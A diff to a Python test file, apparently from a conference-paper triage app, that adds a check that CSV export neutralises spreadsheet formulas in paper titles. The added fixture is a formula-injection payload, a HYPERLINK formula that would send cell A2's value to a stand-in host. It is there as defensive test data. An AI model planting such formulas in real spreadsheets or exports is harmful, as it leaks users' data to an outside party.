@@ -322,7 +322,10 @@ def test_csv_has_my_triage_and_the_labs_counts(trip, conference, lab, member):
 def test_csv_round_trip_reproduces_papers_and_sessions(trip, conference, lab, member):
     conference_papers = Paper.objects.for_conference(conference)
     conference_papers.filter(forum_id="coder0001").update(keywords=["program synthesis", "RL"], primary_area="RL")
+    # Written after an apostrophe so no spreadsheet runs it, and read back without it.
+    conference_papers.filter(forum_id="skipped001").update(title='=HYPERLINK("https://x.example/?"&A2)')
     text = exported_csv(conference, lab, member)
+    assert "'=HYPERLINK(" in text
     empty = ConferenceFactory(slug="copy", name="Copy", timezone="Europe/Vienna")
 
     summary = import_csv(text.encode(), conference=empty)
